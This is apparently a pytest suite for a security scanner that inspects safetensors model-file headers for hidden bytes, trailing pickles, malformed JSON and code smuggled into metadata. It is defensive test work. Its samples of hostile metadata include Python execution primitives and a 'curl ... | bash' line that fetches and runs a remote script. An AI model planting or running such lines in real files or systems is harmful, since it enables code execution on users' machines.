"""safetensors_header: the loader's own rules, hidden bytes, real saves clean, header-only reads, hostile bytes."""

from __future__ import annotations

import io
import json
import struct
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from airlock.artifacts import Artifact
from airlock.findings import Finding, Severity
from airlock.formats import Format
from airlock.pipeline import ScanOptions, scan
from airlock.policy import parse_policy
from airlock.rules import load_rules
from airlock.scanners import safetensors_header
from airlock.scanners.safetensors_header import DTYPE_BITS, SafetensorsHeader
from airlock.scanning import Limits, ScanContext
from airlock.sources.interface import Snapshot
from fixtures import weights_files
from fixtures.real_models import minilm_dir
from fixtures.weights_files import safetensors_bytes
from tests.fuzzing import examples

POLICY = parse_policy('name = "weights"\nrequired_scanners = []\n', "test")
SCANNERS = ["safetensors_header", "gguf_header", "chat_templates"]
LOADER_REJECTS = {"AIR401", "AIR402", "AIR403"}
HOSTILE = settings(max_examples=examples(150), deadline=None, derandomize=True, database=None,
                   suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])  # fmt: skip


def _findings(path: Path) -> tuple[Finding, ...]:
    return scan(str(path), ScanOptions(policy=POLICY, use_cache=False, scanners=SCANNERS)).findings


def _scan_bytes(data: bytes, folder: Path) -> list[Finding]:
    """Run the scanner alone on `data`, without the pipeline (and its hashing pass)."""
    path = folder / "model.safetensors"
    path.write_bytes(data)
    return _scan_file(path)


def _scan_file(path: Path, limits: Limits | None = None) -> list[Finding]:
    artifact = Artifact(path.name, path.stat().st_size, "0" * 64, Format.SAFETENSORS, path)
    snapshot = Snapshot(reference=None, source="local", root=path.parent, files=((path.name, path),))  # type: ignore[arg-type]
    ctx = ScanContext(rules=load_rules(), snapshot=snapshot, artifacts=(artifact,), limits=limits or Limits())
    return list(SafetensorsHeader().scan(artifact, ctx))


SAFETENSORS_MALICIOUS = {k: v for k, v in weights_files.MALICIOUS.items() if k.startswith("st-")}
SAFETENSORS_BENIGN = {k: v for k, v in weights_files.BENIGN.items() if "gguf" not in k}


@pytest.mark.parametrize("name", sorted(SAFETENSORS_MALICIOUS))
def test_each_hostile_file_yields_exactly_its_rules(name: str, generated) -> None:
    generator, expected = SAFETENSORS_MALICIOUS[name]
    assert {f.rule for f in _findings(generated(generator))} == expected


@pytest.mark.parametrize("name", sorted(SAFETENSORS_MALICIOUS))
def test_each_hostile_file_fails_the_default_threshold(name: str, generated) -> None:
    report = scan(
        str(generated(SAFETENSORS_MALICIOUS[name][0])),
        ScanOptions(policy=POLICY, use_cache=False, scanners=SCANNERS),
    )
    assert POLICY.fail_at == Severity.HIGH
    assert not report.passed, [(f.rule, str(f.severity)) for f in report.findings]


@pytest.mark.parametrize("name", sorted(SAFETENSORS_BENIGN))
def test_real_and_library_written_files_are_clean(name: str, generated) -> None:
    findings = _findings(generated(SAFETENSORS_BENIGN[name]))
    assert [f for f in findings if f.severity >= Severity.LOW] == []


def test_trailing_pickle_is_located_and_identified(generated) -> None:
    path = generated(SAFETENSORS_MALICIOUS["st-trailing-pickle"][0])
    (finding,) = _findings(path)
    (length,) = struct.unpack("<Q", path.read_bytes()[:8])
    assert finding.location == f"model.safetensors@byte:{8 + length + 24}"
    assert (finding.severity, finding.evidence["kind"], finding.evidence["looks_like"]) == (
        Severity.HIGH,
        "trailing",
        "pickle",
    )


@pytest.mark.parametrize(
    "name, location",
    [
        ("st-dtype-shape-mismatch", "model.safetensors@header:tensor:a"),
        ("st-duplicate-tensor", "model.safetensors@header:tensor:a"),
        ("st-overlapping-tensors", "model.safetensors@header:tensor:b"),
        ("st-huge-metadata", "model.safetensors@header:__metadata__"),
        ("st-code-in-metadata", "model.safetensors@header:__metadata__:hook"),
    ],
)
def test_findings_name_the_tensor_or_key(name: str, location: str, generated) -> None:
    assert [f.location for f in _findings(generated(SAFETENSORS_MALICIOUS[name][0]))] == [location]


def test_a_few_hidden_bytes_are_medium_and_a_gap_is_found(tmp_path: Path) -> None:
    header = {
        "a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]},
        "b": {"dtype": "U8", "shape": [4], "data_offsets": [8, 12]},
    }
    (gap,) = _scan_bytes(safetensors_bytes(header, b"aaaa" + b"XYZW" + b"bbbb"), tmp_path)
    assert (gap.rule, gap.severity, gap.evidence["kind"], gap.evidence["length"]) == (
        "AIR402",
        Severity.MEDIUM,
        "gap",
        4,
    )


def test_padding_spaces_and_leading_whitespace_are_what_the_loader_accepts(tmp_path: Path) -> None:
    body = b'\n {"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}' + b" " * 5
    assert _scan_bytes(struct.pack("<Q", len(body)) + body + bytes(8), tmp_path) == []


@pytest.mark.parametrize(
    "header, reason",
    [
        (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"__metadata__":{"x":1}}', "not a string"),
        (
            b'{"__metadata__":{},"__metadata__":{},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}',
            "duplicate field",
        ),
        (b'{"a":{"dtype":"F32","shape":[-0],"data_offsets":[0,8]}}', "shape"),
        (b'{"a":{"dtype":"F32","shape":[2.0],"data_offsets":[0,8]}}', "shape"),
        (b'{"a":{"dtype":"F32","shape":[true,2],"data_offsets":[0,8]}}', "shape"),
        (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8,8]}}', "data_offsets"),
        (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":NaN}}', "invalid JSON"),
        (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":1e400}}', "invalid JSON"),
        (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":"\\ud800"}}', "surrogate"),
        (
            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"x":' + b"[" * 126 + b"]" * 126 + b"}}",
            "nesting",
        ),
        (b'\xef\xbb\xbf{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', "invalid JSON"),
        (b'{"a":{"dtype":"F4","shape":[3],"data_offsets":[0,8]}}', "byte boundary"),
        (b'{"a":{"dtype":"U8","shape":[4294967296,4294967296,0],"data_offsets":[0,8]}}', "overflows"),
    ],
)
def test_serde_strictness_is_reproduced(header: bytes, reason: str, tmp_path: Path) -> None:
    findings = _scan_bytes(safetensors_bytes(header, bytes(8)), tmp_path)
    assert [f.rule for f in findings] == ["AIR401"]
    assert reason in findings[0].message


def test_a_header_beyond_the_entry_limit_is_unvetted_not_parsed(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    path.write_bytes(
        safetensors_bytes(
            {f"t{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]} for i in range(50)}, bytes(50)
        )
    )
    (unvetted,) = _scan_file(path, Limits(max_entries=100))
    assert (unvetted.rule, unvetted.severity) == ("AIR407", Severity.HIGH)  # not parsed to the end
    assert _scan_file(path) == []


def test_metadata_over_one_mebibyte_is_low_and_over_sixteen_is_high(tmp_path: Path, generated) -> None:
    (large,) = _scan_file(weights_files.huge_metadata(tmp_path, entries=20))  # 1.3 MB
    assert (large.rule, large.severity, large.evidence["bytes"]) == ("AIR405", Severity.LOW, 20 * 64_000 + 50)
    (huge,) = _scan_file(generated(SAFETENSORS_MALICIOUS["st-huge-metadata"][0]))
    assert (huge.rule, huge.severity) == ("AIR405", Severity.HIGH)
    assert huge.evidence["bytes"] > 16 << 20 > large.evidence["bytes"] > 1 << 20


def _metadata_findings(value: str, folder: Path) -> list[Finding]:
    header = {
        "__metadata__": {"format": "pt", "v": value},
        "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
    }
    return _scan_bytes(safetensors_bytes(header, bytes(8)), folder)


@pytest.mark.parametrize(
    "value, match",
    [
        ("__import__('os').system('id')", "__import__('os').system('id')"),
        ("import subprocess; subprocess.run(['id'])", "import subprocess"),
        ("import os\nos.popen('id').read()", "os.popen('id')"),
        ("from os import system as s; s('id')", "from os import system as s"),
        ("exec(base64.b64decode('aWQ='))", "exec(base64.b64decode('aWQ='))"),
        ("pickle.loads(base64.b64decode('gAR9lC4='))", "pickle.loads(base64.b64decode('gAR9lC4='))"),
        ("getattr(__builtins__, 'ev' + 'al')('1')", "getattr(__builtins__, 'ev' + 'al')"),
        (
            "importlib.import_module('subprocess').check_output('id')",
            "importlib.import_module('subprocess').check_output('id')",
        ),
        ("().__class__.__base__.__subclasses__()", "().__class__.__base__.__subclasses__()"),
        (
            '{"_target_": "os.system", "args": ["id"]}',
            "os.system",
        ),  # JSON whose string a loader would resolve
        ("run me: eval(input())", "eval(input())"),  # not Python: by pattern
        ("curl -s https://example.invalid/x.sh | bash", "| bash"),
    ],
)
def test_metadata_that_names_an_execution_primitive_is_high(value: str, match: str, tmp_path: Path) -> None:
    (finding,) = _metadata_findings(value, tmp_path)
    assert (finding.rule, finding.severity, finding.location) == (
        "AIR408",
        Severity.HIGH,
        "model.safetensors@header:__metadata__:v",
    )
    assert finding.evidence["match"] == match


KOHYA_TAGS = json.dumps({"10_sks dog": {"sks dog": 20, "1girl": 3, "solo": 4, "import export": 1}})
KOHYA_DATASETS = json.dumps(
    [{"is_dreambooth": True, "batch_size_per_device": 2, "subsets": [{"image_dir": "train/10_sks dog"}]}]
)


@pytest.mark.parametrize(
    "value",
    [
        "pt",
        "networks.lora",  # ss_network_module: a dotted module name, not code
        "lycoris.kohya",
        "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.01,betas=(0.9, 0.999))",  # ss_optimizer
        "prodigyopt.Prodigy(decouple=True,weight_decay=0.01,use_bias_correction=True)",
        KOHYA_TAGS,  # ss_tag_frequency
        KOHYA_DATASETS,  # ss_datasets
        '{"conv_dim": "4", "conv_alpha": "1", "algo": "lora"}',  # ss_network_args
        "stable-diffusion-xl-v1-base/lora",  # modelspec.architecture
        "2024-05-01T12:00:00",  # modelspec.date
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        '{"description": "We import weights from the original checkpoint and compile them.", "use_cache": true}',
        "Trained with torch.compile() and model.eval() for validation, os: Ubuntu 22.04 (bash).",
        "os.path.join(root, 'images')",
    ],
)
def test_real_metadata_is_not_code(value: str, tmp_path: Path) -> None:
    assert [f for f in _metadata_findings(value, tmp_path) if f.severity >= Severity.LOW] == []


def test_a_url_stays_informational(tmp_path: Path) -> None:
    (finding,) = _metadata_findings(
        "https://github.com/Stability-AI/generative-models", tmp_path
    )  # modelspec.implementation
    assert (finding.rule, finding.severity) == ("AIR406", Severity.INFO)


def _counting_open(log: list[int]) -> Any:
    class Counting(io.FileIO):
        def read(self, size: int = -1) -> bytes:
            data = super().read(size)
            log.append(len(data))
            return data

    return lambda path, mode="rb": Counting(path, "r")


def test_only_the_header_of_a_one_gigabyte_file_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    header = safetensors_bytes(
        {
            "__metadata__": {"format": "pt"},
            "w": {"dtype": "U8", "shape": [1 << 30], "data_offsets": [0, 1 << 30]},
        },
        b"",
    )
    path = tmp_path / "big.safetensors"
    with open(path, "wb") as fh:
        fh.write(header)
        fh.truncate(len(header) + (1 << 30))  # sparse: a gigabyte that costs nothing to make
    reads: list[int] = []
    monkeypatch.setattr(safetensors_header, "open", _counting_open(reads), raising=False)
    start = time.perf_counter()
    assert _scan_file(path) == []
    assert sum(reads) == len(header)
    assert time.perf_counter() - start < 15.0  # hang guard, not a speed test (speed lives in bench/)


def test_the_real_checkpoint_is_read_header_only(monkeypatch: pytest.MonkeyPatch) -> None:
    path = minilm_dir() / "model.safetensors"
    (length,) = struct.unpack("<Q", path.read_bytes()[:8])
    reads: list[int] = []
    monkeypatch.setattr(safetensors_header, "open", _counting_open(reads), raising=False)
    assert _scan_file(path) == []
    assert sum(reads) == 8 + length < path.stat().st_size // 1000


# -- hostile input: never raise, never hang, and agree with the real loader --------------------------


def _loader_accepts(data: bytes, folder: Path) -> bool:
    from safetensors import SafetensorError, safe_open

    path = folder / "probe.safetensors"
    path.write_bytes(data)
    try:
        with safe_open(str(path), framework="numpy") as fh:
            list(fh.keys())
    except SafetensorError:
        return False
    return True


_DTYPES = st.sampled_from([*DTYPE_BITS, "F33", "f32", "U4"])
_NUMBER = st.one_of(st.integers(0, 64), st.integers(-2, 2), st.just(1 << 64), st.floats(0, 8))
_SHAPE = st.lists(st.integers(0, 6), max_size=3) | st.lists(_NUMBER, max_size=2)
_TENSOR = st.fixed_dictionaries({"dtype": _DTYPES, "shape": _SHAPE,
                                 "data_offsets": st.lists(st.integers(0, 80), min_size=2, max_size=2)},
                                optional={"extra": st.text(max_size=3)})  # fmt: skip
_HEADER = st.dictionaries(st.text(max_size=4), _TENSOR, max_size=4).map(
    lambda d: {**d, "__metadata__": {"format": "pt"}} if len(d) % 2 else d
)


def _mutate(data: bytes, at: int, byte: int) -> bytes:
    return data[: at % len(data)] + bytes([byte]) + data[at % len(data) + 1 :]


@HOSTILE
@given(
    header=_HEADER,
    data_len=st.integers(0, 96),
    flip=st.none() | st.tuples(st.integers(8, 400), st.integers(0, 255)),
)
def test_our_verdict_matches_the_loader(
    header: dict[str, Any], data_len: int, flip: tuple[int, int] | None, tmp_path: Path
) -> None:
    data = safetensors_bytes(json.dumps(header).encode(), bytes(data_len))
    if flip is not None:
        data = _mutate(data, *flip)
    findings = _scan_bytes(data, tmp_path)
    assert bool({f.rule for f in findings} & LOADER_REJECTS) != _loader_accepts(data, tmp_path), findings


@HOSTILE
@given(blob=st.binary(max_size=300))
def test_random_bytes_never_crash(blob: bytes, tmp_path: Path) -> None:
    data = struct.pack("<Q", len(blob)) + blob if blob[:1] == b"\x00" else blob
    start = time.perf_counter()
    findings = _scan_bytes(data, tmp_path)
    assert all(f.rule in SafetensorsHeader.rules for f in findings)
    assert time.perf_counter() - start < 15.0  # hang guard, not a speed test (speed lives in bench/)
